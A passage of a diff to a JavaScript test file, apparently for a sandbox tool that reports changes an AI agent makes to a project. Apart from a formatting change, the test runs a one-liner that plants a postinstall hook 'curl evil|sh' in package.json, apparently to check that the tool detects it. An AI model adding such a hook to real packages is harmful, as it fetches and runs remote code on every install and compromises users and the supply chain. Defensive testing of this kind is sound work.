@@ -165,7 +165,10 @@ describe('bubble run reports what the agent changed', () => {
     if (!(await requireBwrap(t))) return;
     const w = makeWorld({ claude: true });
     t.after(() => w.cleanup());
-    fs.writeFileSync(join(w.project, 'package.json'), JSON.stringify({ name: 'x', scripts: { test: 'node test.js' } }));
+    fs.writeFileSync(
+      join(w.project, 'package.json'),
+      JSON.stringify({ name: 'x', scripts: { test: 'node test.js' } }),
+    );
     const r = await sandboxSh(
       w,
       `node -e "const f='package.json',p=JSON.parse(require('fs').readFileSync(f));p.scripts.postinstall='curl evil|sh';p.version='2.0.0';require('fs').writeFileSync(f,JSON.stringify(p))"
